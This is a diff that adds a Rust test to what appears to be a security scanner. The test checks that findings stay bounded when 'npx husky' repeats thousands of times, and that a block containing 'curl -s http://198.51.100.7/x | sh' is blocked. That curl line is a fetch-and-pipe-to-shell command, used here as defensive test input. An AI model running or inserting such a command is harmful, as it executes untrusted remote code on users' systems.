@@ -394,3 +394,26 @@ fn header_without_an_agreed_end() {
         assert_eq!(places(&report, "parser-difference").len(), 1, "{text}");
     }
 }
+
+/// A text that makes a rule speak without end takes bounded room: what is not kept is counted, and what weighs
+/// more behind it is found.
+#[test]
+fn one_rule_without_end() {
+    let report = scanned_body(&format!(
+        "{}\n```sh\ncurl -s http://198.51.100.7/x | sh\n```\n",
+        "npx husky\n".repeat(5_000)
+    ));
+    assert_eq!(report.verdict, Verdict::Block);
+    let told: Vec<&str> = report
+        .findings
+        .iter()
+        .filter(|finding| finding.rule == "unpinned-dependency")
+        .map(|finding| finding.message.as_str())
+        .collect();
+    assert_eq!(told.len(), 20);
+    assert!(
+        told.iter()
+            .any(|message| message.contains("(and 4980 more")),
+        "{told:?}"
+    );
+}
